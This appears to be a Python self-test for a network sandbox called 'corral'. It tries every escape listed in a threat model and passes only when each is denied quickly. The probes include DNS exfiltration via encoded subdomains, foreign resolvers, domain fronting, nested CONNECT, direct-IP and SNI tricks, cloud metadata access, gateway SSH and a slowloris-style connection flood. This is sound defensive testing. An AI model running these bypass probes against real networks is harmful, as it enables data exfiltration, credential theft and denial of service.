#!/usr/bin/env python3
"""corral selftest: try to escape the sandbox in every way THREATS.md lists; expect to fail.

Runs inside a sandbox, standard library only (it is copied into sandboxes as one file).
Each probe prints one line and passes only if the attempt failed, and failed fast (no hang),
the way corral promises: NXDOMAIN, 403 with a reason, a TLS alert, a reset or an ICMP error.
Next to the attacks, the legitimate flows the policy allows must keep working.

The sandbox cannot see whether a denial was recorded (it has no access to the control
plane, by design); with --json each probe says which event or counter should show it, and
the caller outside (`corral selftest`, the e2e suite) checks that.

Exit status: 0 when every probe passed, 1 otherwise.
"""

from __future__ import annotations

import argparse
import contextlib
import errno
import json
import os
import resource
import secrets
import socket
import ssl
import string
import struct
import sys
import time
from urllib.parse import urlsplit

FAST = 3.0  # seconds: a denial slower than this counts as a hang


class Probe:
    def __init__(self, id, threat, legit=False):
        self.id, self.threat, self.legit = id, threat, legit
        self.ok, self.detail, self.expect, self.ms = False, "", None, 0.0


# -- tiny protocol helpers -------------------------------------------------------------


def dns_query(name, qtype=1, qid=None):
    qid = qid if qid is not None else secrets.randbelow(65536)
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.rstrip(".").split("."))
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(
        "!HH", qtype, 1)


def dns_answer(data):
    """(rcode, [addresses]) of a reply to one A/AAAA question."""
    rcode = data[3] & 0x0F
    ancount = struct.unpack("!H", data[6:8])[0]
    pos = 12
    while data[pos] != 0:
        pos += data[pos] + 1
    pos += 5
    out = []
    for _ in range(ancount):
        if data[pos] & 0xC0 == 0xC0:
            pos += 2
        else:
            while data[pos] != 0:
                pos += data[pos] + 1
            pos += 1
        rtype, _, _, length = struct.unpack("!HHIH", data[pos : pos + 10])
        rdata = data[pos + 10 : pos + 10 + length]
        if rtype == 1:
            out.append(socket.inet_ntop(socket.AF_INET, rdata))
        elif rtype == 28:
            out.append(socket.inet_ntop(socket.AF_INET6, rdata))
        pos += 10 + length
    return rcode, out


def resolve(gateway, name, qtype=1):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(FAST)
        sock.connect((gateway, 53))
        sock.send(dns_query(name, qtype))
        return dns_answer(sock.recv(4096))


def tcp(host, port, timeout=FAST):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_STREAM)
    sock.settimeout(timeout)
    try:
        sock.connect((host, port))
    except BaseException:
        sock.close()
        raise
    return sock


def read_head(sock):
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            break
        data += chunk
    return data


def status(head):
    try:
        return int(head.split(b" ", 2)[1])
    except (IndexError, ValueError):
        return 0


def from_origin(head):
    """An HTTP answer that the origin gave, whatever its status (a real host need not serve
    /selftest): the proxy marks every answer of its own with an X-Corral-* header."""
    return status(head) > 0 and b"\r\nx-corral-" not in head.lower()


def connect_via_proxy(args, target):
    sock = tcp(args.gateway, args.proxy_port)
    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    return sock, read_head(sock)


def tls_context(args):
    if args.cafile:
        return ssl.create_default_context(cafile=args.cafile)
    # Without a CA the probes test reachability, not trust: the filter never terminates TLS.
    return ssl._create_unverified_context()  # noqa: S323


def https_get(args, sock, server_name):
    context = tls_context(args)
    if server_name is None:
        context.check_hostname = False
    with context.wrap_socket(sock, server_hostname=server_name) as tls:
        tls.sendall(f"GET /selftest HTTP/1.1\r\nHost: {server_name or 'x'}\r\n"
                    "Connection: close\r\n\r\n".encode())
        return read_head(tls)


def refused(exc):
    """A fast, explicit network refusal (RST, ICMP error), not a hang."""
    return isinstance(exc, (ConnectionRefusedError, ConnectionResetError, PermissionError)) or (
        isinstance(exc, OSError) and exc.errno in (101, 113, 13, 111, 104, 1))


# -- the probes ------------------------------------------------------------------------


def probes(args):
    """(probe, function) pairs; a function sets probe.ok/detail/expect."""
    allowed, denied, gw = args.allowed, args.denied, args.gateway
    out = []

    def probe(id, threat, legit=False):
        def register(fn):
            out.append((Probe(id, threat, legit), fn))
            return fn
        return register

    allowed_ip = []

    def ip():
        """The allowed name's IPv4 address, as the sandbox's resolver gives it."""
        if not allowed_ip:
            allowed_ip.extend(a for a in resolve(gw, allowed)[1] if ":" not in a)
        if not allowed_ip:
            raise RuntimeError(f"{allowed} does not resolve: is it allowed by the policy?")
        return allowed_ip[0]

    @probe("dns-allowed", 0, legit=True)
    def _(p):
        rcode, addresses = resolve(gw, allowed)
        v4 = [a for a in addresses if ":" not in a]
        p.ok, p.detail = rcode == 0 and bool(v4), f"{allowed} -> {', '.join(addresses) or rcode}"

    @probe("dns-exfiltration", 1)
    def _(p):
        secret = "".join(secrets.choice(string.ascii_lowercase + string.digits) for _ in range(24))
        name = f"{secret}.exfil.{denied}"
        rcode, _ = resolve(gw, name)
        p.ok, p.detail = rcode == 3, f"{name}: rcode {rcode} (NXDOMAIN = 3)"
        p.expect = {"kind": "dns", "name": name, "never_upstream": True}

    @probe("foreign-resolver-udp", 2)
    def _(p):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(FAST)
            sock.connect((args.foreign_resolver, 53))
            sock.send(dns_query(allowed))
            try:
                sock.recv(4096)
                p.detail = "a foreign resolver answered"
            except OSError as exc:
                p.ok, p.detail = refused(exc), f"{type(exc).__name__}: {exc}"
        p.expect = {"kind": "firewall", "address": args.foreign_resolver, "port": 53}

    for port, id in ((53, "foreign-resolver-tcp"), (853, "dns-over-tls")):
        @probe(id, 2)
        def _(p, port=port):
            _expect_refused(p, args.foreign_resolver, port)

    @probe("dns-over-https-denied-host", 2)
    def _(p):
        sock, head = connect_via_proxy(args, f"dns.{denied}:443")
        sock.close()
        p.ok, p.detail = status(head) == 403, head.split(b"\r\n")[0].decode(errors="replace")
        p.expect = {"kind": "connect", "name": f"dns.{denied}"}

    @probe("ipv6-literal", 3)
    def _(p):
        _expect_refused(p, args.v6_target, 443, firewall=False)
        if "Network is unreachable" in p.detail:
            p.detail += " (no IPv6 route in this sandbox at all)"
        else:  # it reached the appliance, so the firewall must have counted it
            p.expect = {"kind": "counter", "counter": "deny_ipv6"}

    @probe("ipv6-aaaa-answers", 3)
    def _(p):
        rcode, addresses = resolve(gw, allowed, qtype=28)
        reached, left = [], False
        for address in [a for a in addresses if ":" in a]:
            try:
                tcp(address, 443).close()
                reached.append(address)
            except OSError as exc:
                if not refused(exc):
                    reached.append(f"{address} ({exc})")
                left = left or exc.errno != errno.ENETUNREACH
        p.ok = rcode == 0 and not reached
        if left:  # it reached the appliance, so the firewall must have counted it
            p.expect = {"kind": "counter", "counter": "deny_ipv6"}
        p.detail = (f"AAAA {allowed} (rcode {rcode}): {', '.join(addresses) or 'no answer'}; "
                    + (f"reached {reached}" if reached else "no IPv6 path"))

    @probe("v4-mapped-via-proxy", 3)
    def _(p):
        sock, head = connect_via_proxy(args, f"[::ffff:{ip()}]:443")
        sock.close()
        p.ok, p.detail = status(head) == 403, _line(head)
        p.expect = {"kind": "connect", "name": ip()}

    @probe("https-via-proxy", 0, legit=True)
    def _(p):
        sock, head = connect_via_proxy(args, f"{allowed}:443")
        if status(head) != 200:
            p.detail = _line(head)
            return
        reply = https_get(args, sock, allowed)
        p.ok, p.detail = from_origin(reply), f"CONNECT {allowed}:443 then {_line(reply)}"

    @probe("http-via-proxy", 0, legit=True)
    def _(p):
        with tcp(gw, args.proxy_port) as sock:
            sock.sendall(f"GET http://{allowed}/selftest HTTP/1.1\r\nHost: {allowed}\r\n"
                         "Connection: close\r\n\r\n".encode())
            head = read_head(sock)
        p.ok, p.detail = from_origin(head), _line(head)

    @probe("https-without-proxy", 4, legit=True)
    def _(p):
        reply = https_get(args, tcp(ip(), 443), allowed)
        p.ok, p.detail = from_origin(reply), f"direct TLS to {ip()}: {_line(reply)}"

    @probe("noproxy-denied-name-same-ip", 6)
    def _(p):
        _expect_tls_denied(p, args, ip(), denied)
        p.expect = {"kind": "tls", "name": denied}

    @probe("noproxy-http-denied-host", 4)
    def _(p):
        with tcp(ip(), 80) as sock:
            sock.sendall(f"GET / HTTP/1.1\r\nHost: {denied}\r\nConnection: close\r\n\r\n"
                         .encode())
            head = read_head(sock)
        p.ok, p.detail = status(head) == 403, _line(head)
        p.expect = {"kind": "http", "name": denied}

    @probe("direct-ip-via-proxy", 5)
    def _(p):
        sock, head = connect_via_proxy(args, f"{ip()}:443")
        sock.close()
        p.ok, p.detail = status(head) == 403, _line(head)
        p.expect = {"kind": "connect", "name": ip()}

    @probe("direct-ip-tls-without-sni", 5)
    def _(p):
        _expect_tls_denied(p, args, ip(), None)
        p.expect = {"kind": "tls", "reason": "without SNI"}

    @probe("direct-ip-other-port", 5)
    def _(p):
        _expect_refused(p, ip(), 8443)

    if args.private_name:
        @probe("rebinding-private-answer", 7)
        def _(p):
            _, addresses = resolve(gw, args.private_name)
            sock, head = connect_via_proxy(args, f"{args.private_name}:443")
            sock.close()
            p.ok = status(head) == 403 and not addresses
            p.detail = f"DNS gave {addresses or 'no address'}; proxy: {_line(head)}"
            p.expect = {"kind": "connect", "name": args.private_name}

    @probe("metadata-via-proxy", 8)
    def _(p):
        sock, head = connect_via_proxy(args, "169.254.169.254:80")
        sock.close()
        p.ok, p.detail = status(head) == 403, _line(head)
        p.expect = {"kind": "connect", "name": "169.254.169.254"}

    @probe("metadata-direct", 8)
    def _(p):
        with tcp("169.254.169.254", 80) as sock:
            sock.sendall(b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n"
                         b"Connection: close\r\n\r\n")
            head = read_head(sock)
        p.ok, p.detail = status(head) == 403, f"redirected to the filter: {_line(head)}"
        p.expect = {"kind": "http", "name": "169.254.169.254"}

    @probe("private-range-direct", 8)
    def _(p):
        _expect_refused(p, "10.0.0.1", 22)

    @probe("gateway-ssh", 9)
    def _(p):
        _expect_refused(p, gw, 22)

    @probe("gateway-admin-api", 9)
    def _(p):
        _expect_refused(p, gw, args.api_port)

    for target, id in (("127.0.0.1:22", "proxy-to-loopback"), (f"{gw}:22", "proxy-to-gateway")):
        @probe(id, 9)
        def _(p, target=target):
            sock, head = connect_via_proxy(args, target)
            sock.close()
            p.ok, p.detail = status(head) == 403, _line(head)
            p.expect = {"kind": "connect", "name": target.rsplit(":", 1)[0]}

    if args.other_gateway:
        @probe("other-session-gateway", 9)
        def _(p):
            _expect_refused(p, args.other_gateway, args.proxy_port)

    @probe("quic-udp-443", 10)
    def _(p):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(FAST)
            sock.connect((ip(), 443))
            sock.send(b"\xc0\x00\x00\x00\x01" + os.urandom(40))
            try:
                sock.recv(2048)
                p.detail = "a UDP answer came back"
            except OSError as exc:
                p.ok, p.detail = refused(exc), f"{type(exc).__name__}: {exc}"
        p.expect = {"kind": "firewall", "address": ip(), "port": 443}

    @probe("icmp-echo", 10)
    def _(p):
        try:
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
        except OSError as exc:
            p.ok, p.detail = True, f"no ICMP socket for this user: {exc}"
            return
        with sock:
            sock.settimeout(FAST)
            sock.setsockopt(socket.IPPROTO_IP, 11, 1)  # IP_RECVERR: report ICMP errors
            sock.connect((ip(), 0))
            sock.send(b"\x08\x00\x00\x00\x00\x01\x00\x01corral")
            try:
                sock.recv(2048)
                p.detail = "an echo reply came back"
            except OSError as exc:
                p.ok, p.detail = refused(exc), f"{type(exc).__name__}: {exc}"
        p.expect = {"kind": "firewall", "address": ip(), "port": None}

    @probe("connect-inside-tunnel", 11)
    def _(p):
        sock, head = connect_via_proxy(args, f"{allowed}:80")
        with sock:
            sock.sendall(f"CONNECT {denied}:443 HTTP/1.1\r\nHost: {denied}:443\r\n\r\n".encode())
            inner = read_head(sock)
        p.ok = status(head) == 200 and status(inner) == 403
        p.detail = f"inner CONNECT: {_line(inner)}"
        p.expect = {"kind": "connect", "reason": "CONNECT inside a tunnel"}

    @probe("host-header-mismatch", 11)
    def _(p):
        with tcp(gw, args.proxy_port) as sock:
            sock.sendall(f"GET http://{allowed}/ HTTP/1.1\r\nHost: {denied}\r\n\r\n".encode())
            head = read_head(sock)
        p.ok, p.detail = status(head) == 403, _line(head)
        p.expect = {"kind": "http", "reason": "differs from the request target"}

    @probe("domain-fronting", 13)
    def _(p):
        sock, head = connect_via_proxy(args, f"{allowed}:443")
        if status(head) != 200:
            sock.close()
            p.detail = _line(head)
            return
        try:
            reply = https_get(args, sock, denied)
            p.detail = f"TLS to {denied} inside a tunnel to {allowed}: {_line(reply)}"
        except ssl.SSLError as exc:
            p.ok = "ACCESS_DENIED" in str(exc) or "access denied" in str(exc)
            p.detail = f"TLS alert: {exc.reason}"
        p.expect = {"kind": "connect", "reason": "domain fronting"}

    if args.tcp_name:
        @probe("tcp-rule-by-name", 0, legit=True)
        def _(p):
            name, port = args.tcp_name.rsplit(":", 1)
            rcode, addresses = resolve(gw, name)
            if not addresses:
                p.detail = f"{name}: rcode {rcode}, no address"
                return
            with tcp(addresses[0], int(port)) as sock:
                banner = sock.recv(64)
            p.ok, p.detail = bool(banner), f"{name}:{port} -> {banner[:30]!r}"

    @probe("malformed-dns", 18)
    def _(p):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(FAST)
            sock.connect((gw, 53))
            sock.send(b"\x13\x37\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xff\xfe\xfd")
            reply = sock.recv(4096)
        p.ok = reply[:2] == b"\x13\x37" and reply[3] & 0x0F == 1
        p.detail = f"rcode {reply[3] & 0x0F} (FORMERR = 1)"
        p.expect = {"kind": "dns", "reason": "malformed"}

    @probe("giant-header", 18)
    def _(p):
        with tcp(gw, args.proxy_port) as sock:
            sock.sendall(f"GET http://{allowed}/ HTTP/1.1\r\nX-Pad: ".encode() + b"a" * 100_000
                         + b"\r\n\r\n")
            head = read_head(sock)
        p.ok, p.detail = status(head) == 431, _line(head)
        p.expect = {"kind": "http", "reason": "larger than"}

    @probe("slow-connections", 18)
    def _(p):
        _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        with contextlib.suppress(ValueError, OSError):
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        # as many as this sandbox may open: the appliance caps nofile at 1024 per container
        want = min(args.slow_connections, resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 64)
        held = []
        try:
            for _ in range(want):
                sock = tcp(gw, args.proxy_port)
                sock.sendall(b"GET http://x/ HTTP/1.1\r\nHo")
                held.append(sock)
            with tcp(gw, args.proxy_port) as sock:
                sock.sendall(f"GET http://{allowed}/ HTTP/1.1\r\nHost: {allowed}\r\n"
                             "Connection: close\r\n\r\n".encode())
                head = read_head(sock)
            p.ok = status(head) == 200 and len(held) == want
            p.detail = f"{len(held)} slow connections held open; a real request: {_line(head)}"
        finally:
            for sock in held:
                sock.close()

    return out


def _line(head):
    return head.split(b"\r\n", 1)[0].decode(errors="replace") or "(connection closed)"


def _expect_refused(p, host, port, firewall=True):
    try:
        sock = tcp(host, port)
        sock.close()
        p.detail = f"connected to {host}:{port}"
    except OSError as exc:
        p.ok, p.detail = refused(exc), f"{host}:{port}: {type(exc).__name__}: {exc}"
    if firewall:
        p.expect = {"kind": "firewall", "address": host, "port": port}


def _expect_tls_denied(p, args, ip, server_name):
    try:
        reply = https_get(args, tcp(ip, 443), server_name)
        p.detail = f"TLS with SNI {server_name} went through: {_line(reply)}"
    except ssl.SSLError as exc:
        p.ok = "ACCESS_DENIED" in str(exc) or "access denied" in str(exc)
        p.detail = f"TLS alert: {exc.reason}"
    except OSError as exc:
        p.ok, p.detail = refused(exc), f"{type(exc).__name__}: {exc}"


def defaults_from_environment():
    proxy = os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy") or ""
    gateway, port = None, 3128
    if proxy:
        parts = urlsplit(proxy if "://" in proxy else f"http://{proxy}")
        gateway, port = parts.hostname, parts.port or 3128
    if gateway is None:
        with contextlib.suppress(OSError), open("/etc/resolv.conf") as f:
            for line in f:
                if line.startswith("nameserver"):
                    gateway = line.split()[1]
                    break
    return gateway, port


def main(argv=None):
    gateway, proxy_port = defaults_from_environment()
    parser = argparse.ArgumentParser(description="Probe every bypass class from inside a "
                                     "corral sandbox; each must fail, fast.")
    parser.add_argument("--gateway", default=gateway, help="the session gateway (default: "
                        "from HTTPS_PROXY or /etc/resolv.conf)")
    parser.add_argument("--proxy-port", type=int, default=proxy_port)
    parser.add_argument("--allowed", required=True,
                        help="a name the policy allows for http (port 80 and 443)")
    parser.add_argument("--denied", default="denied.corral-selftest.example",
                        help="a name the policy does not allow")
    parser.add_argument("--foreign-resolver", default="9.9.9.9")
    parser.add_argument("--v6-target", default="2620:fe::fe")
    parser.add_argument("--private-name", help="an allowed name that resolves to a private address")
    parser.add_argument("--tcp-name", help="NAME:PORT allowed by a tcp rule; expects a banner")
    parser.add_argument("--other-gateway", help="another session's gateway")
    parser.add_argument("--api-port", type=int, default=7443)
    parser.add_argument("--cafile", help="verify TLS on the allowed flows with this CA")
    parser.add_argument("--slow-connections", type=int, default=2000)
    parser.add_argument("--only", action="append", help="run only these probe ids")
    parser.add_argument("--json", action="store_true", help="one JSON object per probe")
    args = parser.parse_args(argv)
    if not args.gateway:
        parser.error("no gateway: pass --gateway (no HTTPS_PROXY, no nameserver found)")

    failed = 0
    for probe, fn in probes(args):
        if args.only and probe.id not in args.only:
            continue
        started = time.monotonic()
        try:
            fn(probe)
        except Exception as exc:  # a probe's own failure is a failed probe, not a crash
            probe.ok, probe.detail = False, f"{type(exc).__name__}: {exc}"
        probe.ms = round((time.monotonic() - started) * 1000, 1)
        if probe.ok and not probe.legit and probe.ms > FAST * 1000 and probe.id != (
                "slow-connections"):
            probe.ok, probe.detail = False, f"too slow ({probe.ms} ms): {probe.detail}"
        failed += not probe.ok
        if args.json:
            print(json.dumps({"id": probe.id, "threat": probe.threat, "legit": probe.legit,
                              "ok": probe.ok, "ms": probe.ms, "detail": probe.detail,
                              "expect": probe.expect}), flush=True)
        else:
            kind = "allow" if probe.legit else f"T{probe.threat:<2}"
            print(f"{'PASS' if probe.ok else 'FAIL'}  {kind:5} {probe.id:30} {probe.ms:8.1f} ms"
                  f"  {probe.detail}", flush=True)
    if not args.json:
        total = len([1 for p, _ in probes(args) if not args.only or p.id in args.only])
        print(f"{total - failed} passed, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
